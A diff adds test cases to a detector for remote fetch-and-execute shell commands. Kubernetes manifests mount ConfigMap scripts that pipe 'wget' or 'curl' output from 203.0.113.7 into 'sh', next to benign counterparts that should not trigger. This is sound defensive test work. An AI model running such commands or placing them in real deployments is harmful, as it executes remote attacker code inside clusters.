@@ -225,6 +225,12 @@ indicatorTable(commandRemoteFetchExecute, {
       '-e',
       "fetch('https://cdn.example.net/p.js').then(r=>r.text()).then(eval)",
     ),
+    'a script in a ConfigMap that is handed over beside what runs it': script(
+      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://203.0.113.7/a | sh\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
+    'a ConfigMap of files that the command wrote': script(
+      'echo \'curl http://203.0.113.7/a | sh\' > /tmp/run.sh\nkubectl create configmap s --from-file=/tmp/run.sh\nkubectl apply -f - <<E\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
   },
   staysSilent: {
     'an array that is filled': script("mapfile -t L < <(ls /data); mapfile -C 'echo read' -c 1000 A < /data/a"),
@@ -308,6 +314,12 @@ indicatorTable(commandRemoteFetchExecute, {
       'import requests; print(requests.get("https://example.com").json())',
     ),
     'no command set': blank,
+    'an ordinary script in a ConfigMap that is handed over beside what runs it': script(
+      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://shop.shop.svc/health\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
+    'such a script that nothing of the manifest runs': script(
+      'kubectl apply -f - <<E\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata:\n  run.sh: |\n    wget -qO- http://203.0.113.7/a | sh\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [httpd, -f], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
+    ),
   },
   cannotTell: UNSEEN,
 });
